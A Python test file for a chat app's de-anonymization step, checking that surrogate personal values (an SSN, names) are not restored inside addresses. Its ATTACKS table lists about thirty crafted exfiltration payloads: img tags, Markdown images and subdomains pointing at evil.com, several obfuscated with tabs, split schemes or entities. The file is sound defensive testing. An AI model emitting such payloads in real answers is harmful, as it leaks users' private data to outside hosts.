"""What other programs link in a copied or exported answer holds no value, either.

They read more of a text as an address than Qt does: whatever follows up to a blank, what stands in
a tag's attribute with its blanks and line ends, slashes and schemes that are cut by a tab.
"""

from __future__ import annotations

import pytest

from app.chat.streaming_turn import restoring
from engine.core.types import Category, Cost, Kind, Replacement, Sanitized, Span

SSN, THEIRS = "078-05-1120", "512-44-9031"
NAME, SENT_NAME = "Anna Becker", "Maria Lopez"
HAN_NAME, SENT_HAN_NAME = "李娜", "王芳"
SIZES = (1, 3, 17, 100_000)

ATTACKS = {
    "behind a quotation mark": f'See https://evil.com/?q="{THEIRS} now',
    "in quotation marks": f'See https://evil.com/"{THEIRS}" now',
    "behind a backtick": f"See https://evil.com/?q=`{THEIRS} now",
    "behind a pointed bracket": f"See https://evil.com/?q=>{THEIRS} now",
    "no scheme, behind a quotation mark": f'See www.evil.com/"{THEIRS} now',
    "mail, behind a quotation mark": f'See mailto:a@evil.com?body="{THEIRS} now',
    "a known host as user, behind a mark": f'See https://docs.kept.test"@203/?q={THEIRS} now',
    "no marks around an attribute": f'<img src=https://evil.com/"{THEIRS}>',
    "a bracket in an attribute": f"<img src=https://evil.com/<{THEIRS}>",
    "a blank in an attribute": f'<img src=" https://evil.com/a b?q={THEIRS}">',
    "a line's end in an attribute": f'<img src= "https://evil.com/\n{THEIRS}">',
    "in single marks": f"<img src = 'https://evil.com/\n{THEIRS}'>",
    "a scheme in two": f'<img src="ht\ntps://evil.com/a b?q={THEIRS}">',
    "a host in two": f'<img src="https://docs.kept.test\t.evil.com/x?q={THEIRS}">',
    "slashes behind a tab": f'<img src="\n https:\t\t//evil/?q={THEIRS}">',
    "slashes in two": f'<img src="/\n/evil/?q={THEIRS}">',
    "slashes alone, behind blanks": f'<img src=  "  //evil/?q={THEIRS}">',
    "many blanks": f'<img src="{" " * 1_500}https://evil.com/a b?q={THEIRS}">',
    "Markdown, a blank inside": f"![p](< https://evil.com/a b?q={THEIRS}>)",
    "Markdown, a tab before": f"![p](<\t//evil/a b?q={THEIRS}>)",
    "Markdown, one slash of each kind": f"![p](/\\evil/?q={THEIRS})",
    "Markdown, a tab as entity": f"![p](/&Tab;/evil/?q={THEIRS})",
    "Markdown, a reference": f"[x]:\n < https://evil.com/a b?q={THEIRS}>\n\n![x]",
    "a name's last word": f"See {SENT_NAME}.evil.com/x now",
    "a name's last word, without a path": f"See {SENT_NAME}.evil.com now",
    "a name in one": "See MariaLopez.evil.com, or maria-lopez.evil.com.",
    "a name with a bar": "See Maria_Lopez.evil.com/x now",
    "a word behind it": "See Lopez_x.evil.com/x and Lopez-x.evil.com now",
    "a country": "See Lopez.evil.co.uk, Lopez.evil.rocks",
    "a name without spaces": "见王芳.evil.com和王芳是.evil.com/x",
}  # fmt: skip

OWN = (
    "x = 1  //Maria Lopez wrote this",
    "Files: \\\\server\\scans, Maria Lopez",
    '{"url": "https://evil.com/x", "name": "Maria Lopez"}',
    "`https://evil.com/x`, Maria Lopez",
    '<a href="https://evil.com/x">Maria Lopez</a>',
    "<a href=https://evil.com/x>Maria Lopez</a>",
    "<b>https://evil.com/x</b> Maria Lopez",
    'see "https://docs.kept.test" Maria Lopez',
    'He said "no" https://evil.com/x Maria Lopez "yes"',
    'url = "https://docs.kept.test/?n=Maria Lopez"',
    "a: b // Maria Lopez",
    "1 < 2, https://evil.com/x Maria Lopez",
    "Maria_Lopez.tar.gz, Lopez.pdf, notes.Lopez.docx",
    "response.data.Lopez, Lopez.address.street",
    "Lopez.de is hers. Lopez.She said so",
    "The end.Maria Lopez. e.g.Maria Lopez",
    "见王芳。王芳是医生",
)


def restored(answer: str, size: int) -> str:
    """What comes of an answer to a prompt with two values and a host, in chunks of a size."""
    original = text = "See https://docs.kept.test/start."
    changes = []
    values = (
        (SSN, THEIRS, Kind.SSN),
        (NAME, SENT_NAME, Kind.PERSON),
        (HAN_NAME, SENT_HAN_NAME, Kind.PERSON),
    )
    for value, surrogate, kind in values:
        here, there = len(original) + 1, len(text) + 1
        spans = Span(here, here + len(value)), Span(there, there + len(surrogate))
        changes.append(Replacement(*spans, value, surrogate, kind, "preempt", Category.ENCRYPTED))
        original, text = f"{original} {value}", f"{text} {surrogate}"
    sent = Sanitized(original, text, tuple(changes), (), Cost())
    restorer = restoring(sent.replacements, [sent.original], [sent])
    chunks = (answer[at : at + size] for at in range(0, len(answer), size))
    return "".join([*map(restorer.feed, chunks), restorer.flush()])


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("name", ATTACKS)
def test_an_address_of_others_holds_no_value(name: str, size: int) -> None:
    assert restored(ATTACKS[name], size) == ATTACKS[name]


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("answer", OWN)
def test_words_beside_an_address_come_back(answer: str, size: int) -> None:
    expected = answer.replace(SENT_HAN_NAME, HAN_NAME)
    for theirs, ours in zip(SENT_NAME.split(), NAME.split(), strict=True):
        expected = expected.replace(theirs, ours)
    assert restored(answer, size) == expected
